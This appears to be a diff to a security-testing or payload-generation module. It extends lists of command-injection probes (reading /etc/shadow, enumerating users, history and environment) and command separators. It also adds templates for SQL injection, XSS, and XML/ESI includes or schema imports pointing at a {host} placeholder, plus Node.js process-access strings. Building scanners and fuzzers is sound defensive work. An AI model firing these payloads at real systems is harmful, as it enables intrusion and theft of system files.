@@ -227,6 +227,13 @@ _HOLES: dict[str, list[str]] = {
         "ver",
         "find / -name x",
         "head -1 /etc/shadow",
+        "find . -exec id \\;",
+        "echo %USERNAME%",
+        "echo $HOME",
+        "set",
+        "history",
+        "df -h",
+        "last",
     ],
     "sep": [";", "|", "||", "&", "&&", "\n", "`", "$(", ";;", "| ", "%0a", "\r\n", "'; ", '"; ', "& ", "|&"],
     "file": [
@@ -317,6 +324,9 @@ _FORMS: dict[str, list[str]] = {
         "if({n}{op}{n},{fn},{n})",
         "declare @q varchar(99);set @q={q}x{q};exec(@q)",
         "{q} {or} {w} is not null{c}",
+        "{n} | {n}={n}",
+        "{n}{s}{or}{s}{col}{s}is not null{c}",
+        "{n}{s}order by{s}ifnull({col},{col}){c}",
     ],
     "xss": [
         "<{tag} {attr} {ev}={js}>",
@@ -437,6 +447,11 @@ _FORMS: dict[str, list[str]] = {
         "rO0ABXNyABFqYXZhLnV0aWwu",
         "<xi:include href={q}file:///{file}{q}/>",
         "' or count(//*)={n} or 'a'='b",
+        "<esi:include src={q}http://{host}/{w}{q}/>",
+        "<xs:import schemaLocation={q}http://{host}/{w}.xsd{q}/>",
+        "<{w}><dynamic-proxy/></{w}>",
+        "- var x = root.process",
+        "global.process.mainModule",
     ],
 }
 
